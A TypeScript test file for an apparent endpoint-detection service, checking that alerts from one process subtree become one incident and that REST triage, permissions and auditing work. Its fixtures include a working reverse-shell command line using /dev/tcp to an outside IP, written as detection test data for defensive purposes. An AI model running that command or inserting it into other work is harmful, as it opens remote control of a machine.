// Incidents: alerts of one process subtree become one incident; the same
// rule on a parent and child for one command line counts once; triage over
// REST with its rules and audit.
import { afterEach, describe, expect, it } from 'vitest';
import { normalize, type Alert } from '../../../proto/src';
import { sampleAlert } from '../helpers/fake-agent';
import { bearer, makeHarness, type Harness } from '../helpers/harness';

let h: Harness;
afterEach(async () => { await h?.close(); });

const T = Date.parse('2026-12-01T10:00:00Z');
type P = { pid: number; entity_id: string; args: string[]; ancestors: { pid: number; entity_id: string; args?: string[] }[] };
const init = { pid: 1, entity_id: 'init', args: ['/sbin/init'] };

function alert(seq: number, rule: string, sev: Alert['severity'], process: P, atS: number): void {
  const ts = new Date(T + atS * 1000).toISOString();
  const doc = { '@timestamp': ts, rule: { id: rule, name: rule }, process: { ...process, command_line: process.args.join(' ') }, event: { kind: 'alert' } };
  h.app.vigil.ingest.fromAgent('h1', seq, normalize<Alert>('Alert', sampleAlert(seq, { rule_id: rule, rule_name: rule, severity: sev, timestamp: ts, json: JSON.stringify(doc) })));
}

const sshd = { pid: 100, entity_id: 'sshd', args: ['sshd'] };
const shell = { pid: 200, entity_id: 'bash', args: ['-bash'] };
const get = (url: string, token = h.tokens.viewer) => h.app.inject({ url, headers: bearer(token) });
const patch = (id: number, body: unknown, token = h.tokens.responder) => h.app.inject({ method: 'PATCH', url: `/v1/incidents/${id}`, headers: bearer(token), payload: body as object });

describe('incidents', () => {
  it('groups a behaviour into one incident and keeps unrelated ones apart', async () => {
    h = await makeHarness();
    // A script in an admin shell copies a binary to /tmp and runs it: two rules on one process,
    const tool: P = { pid: 300, entity_id: 'tool', args: ['/tmp/x'], ancestors: [shell, sshd, init] };
    alert(1, 'binary-written-then-executed', 'SEVERITY_HIGH', tool, 0);
    alert(2, 'exec-from-tmp', 'SEVERITY_MEDIUM', tool, 0);
    // then a reverse shell under timeout: the same rule on timeout and on its bash child, one command line.
    const timeout: P = { pid: 301, entity_id: 'timeout', args: ['timeout', '2', 'bash', '-c', 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1'], ancestors: [shell, sshd, init] };
    const child: P = { pid: 302, entity_id: 'child', args: ['bash', '-c', 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1'], ancestors: [timeout, shell, sshd, init] };
    alert(3, 'reverse-shell-cmdline', 'SEVERITY_CRITICAL', timeout, 5);
    alert(4, 'reverse-shell-cmdline', 'SEVERITY_CRITICAL', child, 5);
    // Elsewhere on the host, a cron job: its own incident.
    const cron: P = { pid: 400, entity_id: 'cronjob', args: ['/etc/cron.daily/x'], ancestors: [{ pid: 50, entity_id: 'cron', args: ['cron'] }, init] };
    alert(5, 'exec-from-tmp', 'SEVERITY_MEDIUM', cron, 6);

    const list = (await get('/v1/incidents')).json().incidents;
    expect(list).toHaveLength(2);
    const [other, main] = list;
    expect(other).toMatchObject({ alert_count: 1, rules: ['exec-from-tmp'] });
    expect(main).toMatchObject({ host_id: 'h1', severity: 'critical', title: 'reverse-shell-cmdline', state: 'open', alert_count: 4, distinct_count: 3 });
    expect(main.rules.sort()).toEqual(['binary-written-then-executed', 'exec-from-tmp', 'reverse-shell-cmdline']);
    const detail = (await get(`/v1/incidents/${main.id}`)).json();
    expect(detail.alerts.map((a: { seq: number; duplicate: boolean }) => [a.seq, a.duplicate])).toEqual([[1, false], [2, false], [3, false], [4, true]]);

    expect((await get('/v1/incidents?min_severity=critical')).json().incidents.map((i: { id: number }) => i.id)).toEqual([main.id]);
    expect((await get('/v1/incidents?host=h2')).json().incidents).toEqual([]);
    expect((await get(`/v1/incidents?limit=1&before=${other.id}`)).json().incidents.map((i: { id: number }) => i.id)).toEqual([main.id]);
  });

  it('triage: acknowledge, assign, comment, close with a reason; audited; viewers and bad input refused', async () => {
    h = await makeHarness();
    alert(1, 'r', 'SEVERITY_HIGH', { pid: 9, entity_id: 'e9', args: ['x'], ancestors: [init] }, 0);
    const id = (await get('/v1/incidents')).json().incidents[0].id;
    expect((await patch(id, { state: 'acknowledged', assignee: 'ann', comment: 'looking' })).json().incident).toMatchObject({ state: 'acknowledged', assignee: 'ann' });
    const closed = (await patch(id, { state: 'closed', close_reason: 'benign', comment: 'admin test' })).json();
    expect(closed.incident).toMatchObject({ state: 'closed', close_reason: 'benign', assignee: 'ann' });
    expect(closed.comments.map((c: { text: string }) => c.text)).toEqual(['looking', 'admin test']);
    expect(h.app.vigil.audit.list(10).filter((e) => e.action === 'incident.update')).toHaveLength(2);

    expect((await patch(id, { state: 'open' }, h.tokens.viewer)).statusCode).toBe(403);
    expect((await h.app.inject({ method: 'PATCH', url: `/v1/incidents/${id}`, payload: { bogus: 1 } })).statusCode).toBe(401);
    const bad = await patch(id, { state: 'resolved' });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.code).toBe('VIGIL_ERR_BAD_REQUEST');
    expect((await patch(id, { comment: 'x'.repeat(4001) })).statusCode).toBe(400);
    const noReason = await patch(id, { state: 'closed' });
    expect(noReason.statusCode).toBe(400);
    expect(noReason.json().error.message).toContain('closing needs close_reason');
    expect((await patch(999, { state: 'open' })).statusCode).toBe(404);
    // A closed incident takes no new alerts: the same process alerting again opens a new one.
    alert(2, 'r', 'SEVERITY_HIGH', { pid: 9, entity_id: 'e9', args: ['x'], ancestors: [init] }, 10);
    expect((await get('/v1/incidents')).json().incidents).toHaveLength(2);
  });
});
